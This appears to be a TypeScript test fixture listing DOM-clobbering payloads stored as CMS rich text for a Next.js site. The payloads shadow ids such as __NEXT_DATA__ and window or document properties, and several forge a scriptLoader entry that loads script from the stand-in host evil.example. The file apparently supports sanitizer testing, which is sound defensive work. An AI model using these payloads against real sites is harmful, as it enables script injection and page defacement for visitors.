/**
 * DOM-clobbering payloads stored as CMS rich text: ids and names that would shadow what the page's own code looks up
 * (Next's __NEXT_DATA__ and __next, the strings block __I18N__, the router global `next`) or window/document
 * properties. The first is the finding of issue 13: Next reads the first #__NEXT_DATA__ and loads its scriptLoader.
 * A foreign script that ran would set window.__clobber; an id or name left unprefixed would define it as an element.
 */
export const EVIL_HOST = 'evil.example';

/** Ids our code and Next's client pass to document.getElementById, and the marker global. */
export const PAGE_IDS = ['__NEXT_DATA__', '__next', '__I18N__', '__clobber'];

/** window and document properties the payloads try to shadow. */
export const CLOBBERED_PROPS = [
  'location', 'cookie', 'domain', 'forms', 'getElementById', 'querySelector', 'createElement', 'body', 'head',
  'defaultView', 'documentElement', 'attributes', 'currentScript', 'scripts', 'images', 'links', 'all', 'title',
  'referrer', 'URL', 'fetch', 'alert', 'self', 'parent', 'top', 'name', 'localStorage', 'navigator', 'next',
  'getElementsByName', 'implementation', 'ownerDocument', 'nodeType', 'children', '__NEXT_P',
];

const nextData = (src: string) => JSON.stringify({ props: { pageProps: {} }, page: '/', query: {}, buildId: 'x', scriptLoader: [{ src }] });

export const CLOBBER_CORPUS: string[] = [
  `<p id="__NEXT_DATA__">${nextData(`https://${EVIL_HOST}/next-data.js`)}</p>`,
  `<pre ID="__NEXT_DATA__">${nextData(`https://${EVIL_HOST}/upper-id.js`)}</pre>`,
  `<p id=" __NEXT_DATA__ ">${nextData(`https://${EVIL_HOST}/spaced-id.js`)}</p>`,
  `<p id="__NEXT_DATA__">{"assetPrefix":"https://${EVIL_HOST}","buildId":"x","page":"/","query":{},"props":{}}</p>`,
  '<div id="__next"><p>a fake application root</p></div>',
  '<p id="__I18N__">{"locale":"en","messages":{"footer":{"copyright":"defaced"}}}</p>',
  '<a id="__clobber" href="/">marker</a>',
  '<a id="next" href="/">router global</a>',
  '<a id="__NEXT_P" href="/">page queue</a>',
  `<a id="location" href="https://${EVIL_HOST}/location">location</a>`,
  '<img name="cookie" src="/favicon.ico" alt="">',
  '<img name="domain" src="/favicon.ico" alt="">',
  '<img name="forms" src="/favicon.ico" alt="">',
  '<img name="getElementById" src="/favicon.ico" alt="">',
  '<img name="querySelector" src="/favicon.ico" alt="">',
  '<img name="createElement" src="/favicon.ico" alt="">',
  '<img name="body" src="/favicon.ico" alt="">',
  '<img name="head" src="/favicon.ico" alt="">',
  '<img name="documentElement" src="/favicon.ico" alt="">',
  '<img name="defaultView" src="/favicon.ico" alt="">',
  '<img name="currentScript" src="/favicon.ico" alt="">',
  '<img name="scripts" src="/favicon.ico" alt=""><img name="images" src="/favicon.ico" alt="">',
  '<img name="getElementsByName" src="/favicon.ico" alt=""><img name="implementation" src="/favicon.ico" alt="">',
  '<img id="title" name="title" src="/favicon.ico" alt=""><img name="referrer" src="/favicon.ico" alt=""><img name="URL" src="/favicon.ico" alt="">',
  '<a id="attributes" href="/">attributes</a><a id="nodeType" href="/">nodeType</a><a id="children" href="/">children</a>',
  '<a id="fetch" href="/">fetch</a><a id="alert" href="/">alert</a><a id="self" href="/">self</a><a id="parent" href="/">parent</a>',
  '<a id="top" href="/">top</a><a id="name" href="/">name</a><a id="localStorage" href="/">storage</a><a id="navigator" href="/">nav</a>',
  // Two elements with one id make an HTMLCollection whose named member shadows a nested property (window.defaultView.location).
  `<a id="defaultView" href="/">one</a><a id="defaultView" name="location" href="https://${EVIL_HOST}/collection">two</a>`,
  // A form with a named input shadows the form's own properties; forms are forbidden, the input must not survive as a name either.
  '<form id="ownerDocument" name="all"><input name="attributes"><input id="links" name="nodeType"></form>',
  '<map name="cookie"><area href="/" alt="area"></map><object name="forms" data="/favicon.ico"></object><embed name="domain" src="/favicon.ico">',
  '<iframe name="location" src="/"></iframe><iframe name="__clobber" srcdoc="<p>x</p>"></iframe>',
  '<h2 id="setup">Set up</h2><p><a href="#setup">to the setup heading</a></p>',
];
